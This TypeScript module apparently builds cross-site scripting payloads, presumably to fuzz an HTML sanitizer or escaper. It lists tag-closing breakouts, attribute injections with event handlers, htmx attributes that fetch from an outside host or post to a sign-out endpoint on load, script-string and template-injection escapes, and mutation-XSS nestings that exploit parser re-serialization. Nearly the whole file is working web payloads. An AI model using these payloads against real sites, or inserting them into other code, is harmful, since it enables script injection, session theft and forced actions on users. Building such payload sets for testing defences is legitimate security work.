import { elements } from "./elements.ts";
import { inside, some, type Trick } from "./trick.ts";

/** Ends of whatever a text may have been put into; after each, markup would stand where markup counts. */
const ends = [
  '">',
  "'>",
  "`>",
  " >",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</svg>",
  "</math>",
  "</select>",
  "</iframe>",
  "</xmp>",
  "</noembed>",
  "</li></ol>",
  "</p></div></li>",
  "</b></a>",
  "</code></pre>",
  "</hx-partial>",
  "</hx-upsert>",
];

export const closings: readonly Trick[] = ends.flatMap((end, turn) =>
  inside((markup) => end + markup, some(elements, 1, turn * 2)),
);

/** What would follow a quotation mark that nobody escaped: more attributes of the element one stands in. */
const attributes: readonly Trick[] = [
  ({ js }) => `onmouseover=${js}`,
  ({ js }) => `autofocus tabindex=1 onfocus=${js}`,
  ({ js }) => `style=animation:a onanimationstart=${js}`,
  ({ away }) => `style=background:url(https:${away})`,
  ({ away }) => `hx-get=https:${away} hx-trigger=load`,
  ({ js }) => `hx-on:click=${js}`,
  ({ js }) => `hx-vals=js:{x:${js}} hx-post=/sign-out hx-trigger=load`,
  ({ js }) => `id=composer onclick=${js}`,
  ({ js }) => `data-action=delete onpointerenter=${js}`,
  ({ js }) => `srcdoc=<script>${js}</script> onload=${js}`,
  ({ js }) => `formaction=javascript:${js} type=image src=x onerror=${js}`,
];

/** Ways out of a value, and back into one so that what follows is whole again. */
const quotes = [
  (attribute: string) => `" ${attribute} x="`,
  (attribute: string) => `' ${attribute} x='`,
  (attribute: string) => `x ${attribute} `,
  (attribute: string) => `x"\n${attribute}\t'`,
  (attribute: string) => `x'"/${attribute} "`,
];

export const attributeEnds: readonly Trick[] = quotes.flatMap((quote, turn) =>
  inside(quote, some(attributes, 5, turn)),
);

/** Ends of a string in a script, of a template, and of JSON in a page. */
export const scriptEnds: readonly Trick[] = [
  ({ js }) => `";${js};//`,
  ({ js }) => `';${js};//`,
  ({ js }) => `\\";${js};//`,
  ({ js }) => `"-(${js})-"`,
  ({ js }) => `'+(${js})+'`,
  ({ js }) => `\`;${js};//`,
  ({ js }) => `\${${js}}`,
  ({ js }) => `"}];${js};//`,
  ({ js }) => `x\u2028"\u2029;${js}//`,
  ({ js }) => `{{${js}}}`,
  ({ js }) => `{{constructor.constructor('${js}')()}}`,
  ({ js }) => `<%= ${js} %>`,
  ({ js }) => `#{${js}}`,
  ({ js }) => `[[\${${js}}]]`,
];

/** Texts that a parser reads one way, writes another, and would read a third way: harmless only for who reads once. */
export const nestings: readonly Trick[] = [
  ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${js}>">`,
  ({ js }) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  ({ js }) => `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<svg><title><style><img title="</style></title><img src=x onerror=${js}>">`,
  ({ js }) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
  ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  ({ js }) => `<textarea><p title="</textarea><img src=x onerror=${js}>">`,
  ({ js }) => `<template><p title="</template><img src=x onerror=${js}>"></template><svg onload=${js}>`,
  ({ js }) => `<svg><desc><table><svg><style><a title="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<table><td><table><a href="javascript:${js}">x</table><svg><script>${js}</script>`,
  ({ js }) => `<p><svg><foreignObject><p><style><img src="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<listing>&lt;img src=x onerror=${js}&gt;</listing><pre>\n<img src=x onerror=${js}></pre>`,
  ({ js }) => `<title><a href="</title><svg onload=${js}>">`,
  ({ js }) => `<style><a title="</style><img src=x onerror=${js}>">`,
  ({ js }) => `<![CDATA[<a title="]]><img src=x onerror=${js}>">`,
  ({ js }) => `<svg><![CDATA[<a title="]]><script>${js}</script>">`,
  ({ js }) => `<a title="<!--"><img alt="--><img src=x onerror=${js}>"><img src=x onerror=${js}>`,
  ({ js }) => `<frameset><frame><noframes><p title="</noframes><img src=x onerror=${js}>">`,
];
